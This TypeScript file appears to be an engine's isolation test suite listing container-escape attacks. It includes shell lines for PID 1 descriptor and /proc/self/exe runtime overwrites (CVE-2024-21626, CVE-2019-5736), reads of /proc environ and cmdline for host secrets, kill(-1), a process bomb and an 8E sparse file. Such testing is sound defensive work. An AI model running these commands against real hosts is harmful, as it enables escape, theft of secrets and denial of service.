import { existsSync, lstatSync } from 'node:fs';
import { join } from 'node:path';
import { commandLine, descendants } from '../support/processes.js';
import type { Attack } from './attack.js';
import { mountsOf } from './attack-run.js';

/** Attempts to reach the host from a container: files, descriptors, processes, sockets, names. */

const TRACER = ['--cap-add', 'SYS_PTRACE', '--security-opt', 'seccomp=unconfined'];

/** Repeats an attempt, for a race with something that exists only for a moment. */
async function often(times: number, once: () => Promise<unknown>): Promise<void> {
  for (let round = 0; round < times; round++) await once();
}

/** Descriptors that PID 1 and other processes hold during the set-up. */
function descriptors(flags: string[]): Attack {
  return {
    name: `descriptors of PID 1 while the container starts, with ${flags.includes('--privileged') ? '--privileged' : 'SYS_PTRACE'}`,
    aim: 'escape',
    by: 'process',
    reference: 'CVE-2024-21626 (its class)',
    flags,
    commit: (attempt) =>
      often(10, () => attempt.run(['attacker', 'descriptors', attempt.host.victim, '1', '2', 'self'])),
  };
}

export const HOST_ACCESS: Attack[] = [
  descriptors(['--cap-add', 'SYS_PTRACE']),
  descriptors(['--privileged']),
  {
    name: 'descriptors, memory, directories and namespaces of all processes (ptrace, pidfd_getfd, setns)',
    aim: 'escape',
    by: 'process',
    flags: TRACER,
    alsoAsRoot: true,
    weakenedByRoot: ['--userns', 'host', '--privileged', '--pid', 'host'],
    commit: async (attempt) =>
      void (await often(3, () => attempt.run(['attacker', 'trace', attempt.host.victim]))),
  },
  {
    name: 'descriptors, memory and namespaces of a process that enters by exec',
    aim: 'escape',
    by: 'process',
    reference: 'CVE-2016-9962',
    flags: TRACER,
    commit: async (attempt) => {
      const name = await attempt.detach(
        `sleep 0.5; while true; do attacker trace ${attempt.host.victim}; done`,
      );
      await often(6, () => attempt.command(['exec', name, 'sleep', '0.05']));
      attempt.reveal((await attempt.engine.command(['logs', name])).output);
    },
  },
  {
    name: 'the root, working directory and program of PID 1',
    aim: 'host read',
    by: 'process',
    weakenedBy: ['-v', '/tmp:/tmp'],
    commit: async (attempt) => {
      const path = attempt.host.victim;
      await attempt.shell(`for p in 1 2 self; do cat /proc/$p/root${path} /proc/$p/cwd${path} /proc/$p/cwd/../../..${path}
        echo written >> /proc/$p/root${path}; done`);
    },
  },
  {
    name: "overwriting the engine's program through /proc/self/exe",
    aim: 'host write',
    by: 'process',
    reference: 'CVE-2019-5736',
    flags: ['--cap-add', 'ALL'],
    commit: async (attempt) => {
      const programs = ['/usr/bin/crun', '/usr/bin/podman', '/usr/bin/conmon', process.execPath].filter(
        existsSync,
      );
      const dist = join(process.env.FOSTER ?? 'dist/foster', '..', process.arch, 'foster-init');
      const look = () =>
        [...programs, dist].map((path) => `${lstatSync(path).mtimeMs} ${lstatSync(path).size}`).join();
      const before = look();
      const script =
        'printf "#!/proc/self/exe\\n" > /trap; chmod +x /trap; (while true; do for e in /proc/[0-9]*/exe; do echo x >> $e; done; done) & sleep 1000';
      const name = await attempt.detach(script);
      await often(3, () => attempt.command(['exec', name, '/trap']));
      return look() !== before;
    },
  },
  {
    name: 'a leaked descriptor as working directory: -w /proc/self/fd/N',
    aim: 'escape',
    by: 'process',
    reference: 'CVE-2024-21626',
    commit: async (attempt) => {
      const path = attempt.host.victim;
      for (let fd = 3; fd < 12; fd++)
        await attempt.shell(`cat ../../../../../../..${path} .${path}`, {
          flags: ['-w', `/proc/self/fd/${fd}`],
        });
    },
  },
  {
    name: 'a leaked descriptor as working directory of exec',
    aim: 'escape',
    by: 'process',
    reference: 'CVE-2024-21626',
    commit: async (attempt) => {
      const name = await attempt.detach('sleep 1000');
      const path = attempt.host.victim;
      for (let fd = 3; fd < 12; fd++)
        await attempt.command([
          'exec',
          '-w',
          `/proc/self/fd/${fd}`,
          name,
          'cat',
          `../../../../../../..${path}`,
          `.${path}`,
        ]);
    },
  },
  {
    name: 'kill(-1): every process that it may signal',
    aim: 'host write',
    by: 'process',
    flags: ['--cap-add', 'KILL'],
    weakenedBy: ['--pid', 'host'],
    commit: async (attempt) => {
      // With the host's processes visible, kills only one of them: all would include the tests.
      const target = attempt.flags.includes('host') ? String(attempt.host.canary.pid) : '-1';
      const { isTooLate } = await attempt.shell(
        `for s in TERM HUP KILL; do kill -$s -- ${target}; done; kill -9 1; exit 3`,
      );
      return isTooLate;
    },
  },
  {
    name: 'processes that outlive the container: in their own sessions, ignoring signals',
    aim: 'exhaustion',
    by: 'process',
    flags: ['--stop-timeout', '1'],
    commit: async (attempt) => {
      await attempt.run(['attacker', 'bomb', '300', attempt.token]);
      return descendants().some(({ pid }) => commandLine(pid).includes(attempt.token));
    },
  },
  {
    name: 'an abstract Unix socket of the host',
    aim: 'escape',
    by: 'process',
    reference: 'CVE-2020-15257',
    weakenedBy: ['--network', 'host'],
    commit: async (attempt) =>
      void (await attempt.run(['attacker', 'connect', 'abstract', attempt.host.abstractName])),
  },
  {
    name: "a server on the host's loopback interface",
    aim: 'leak',
    by: 'process',
    weakenedBy: ['--network', 'host'],
    commit: async (attempt) =>
      void (await attempt.run(['attacker', 'connect', 'loopback', String(attempt.host.port)])),
  },
  {
    name: 'paths of the host in mounts, cgroups and overlay options',
    aim: 'leak',
    by: 'process',
    commit: async (attempt) => {
      const { output } = await attempt.shell(
        'cat /proc/self/mountinfo /proc/1/mountinfo /proc/self/cgroup /proc/1/maps',
      );
      return output.includes(attempt.engine.home.folder);
    },
  },
  {
    name: 'the environment and command line of the engine',
    aim: 'leak',
    by: 'process',
    commit: async (attempt) => {
      const { output } = await attempt.shell(
        'env; cat /proc/*/environ /proc/*/cmdline; cat /proc/[0-9]*/auxv | wc -c',
      );
      return output.includes('the-environment-of-the-host');
    },
  },
  {
    name: 'processes of the host in /proc',
    aim: 'leak',
    by: 'process',
    weakenedBy: ['--pid', 'host'],
    commit: async (attempt) => {
      const { output } = await attempt.shell(
        'for p in /proc/[0-9]*; do tr "\\0" " " < $p/cmdline || cat $p/cmdline; done',
      );
      return /node|systemd|sleep\W1000/.test(output);
    },
  },
  {
    name: "the engine's own folders by their paths",
    aim: 'host write',
    by: 'process',
    weakenedBy: ['-v', '/tmp:/tmp'],
    commit: async (attempt) => {
      const data = join(attempt.engine.home.folder, 'data');
      const mark = join(attempt.engine.home.folder, attempt.token);
      await attempt.shell(`ls ${data}; echo x > ${mark}; echo x > /proc/1/cwd/${mark}`);
      return existsSync(mark);
    },
  },
  {
    name: "the caller's session bus and agents, by variables and /run",
    aim: 'leak',
    by: 'process',
    commit: async (attempt) => {
      const env = {
        SSH_AUTH_SOCK: '/tmp/agent',
        DBUS_SESSION_BUS_ADDRESS: `unix:abstract=${attempt.host.abstractName}`,
      };
      const { output } = await attempt.shell('env; ls /run/user /tmp', { env });
      return /SSH_AUTH_SOCK|DBUS|foster-home/.test(output);
    },
  },
  {
    name: "masked paths are covered by the host's /dev/null and nothing else: /proc/keys, /proc/timer_list, /sys/firmware",
    aim: 'leak',
    by: 'process',
    weakenedBy: ['--privileged'],
    commit: async (attempt) => {
      let isOpen = false;
      const look = () => {
        const mounts = mountsOf(attempt.processes()[0] ?? 0);
        isOpen = ['/proc/keys', '/proc/timer_list'].some(
          (place) => existsSync(place) && !isMasked(mounts, place),
        );
        for (const pid of attempt.processes()) process.kill(pid, 'SIGKILL');
      };
      await attempt.shell('echo holding; while true; do sleep 1; done', { when: { says: 'holding', look } });
      return isOpen;
    },
  },
  {
    name: 'a sparse file of the greatest possible size',
    aim: 'exhaustion',
    by: 'process',
    commit: async (attempt) => {
      const { isTooLate } = await attempt.shell(
        'truncate -s 8E /big || dd if=/dev/zero of=/big bs=1 count=1 seek=8E; true',
      );
      return isTooLate;
    },
  },
];

/** Whether it is the host's null device, not a file of that name in the container. */
export function isMasked(mounts: ReturnType<typeof mountsOf>, place: string): boolean {
  const last = mounts.findLast((mount) => mount.place === place);
  return last !== undefined && (last.root === '/null' || last.type === 'tmpfs') && last.type !== 'proc';
}
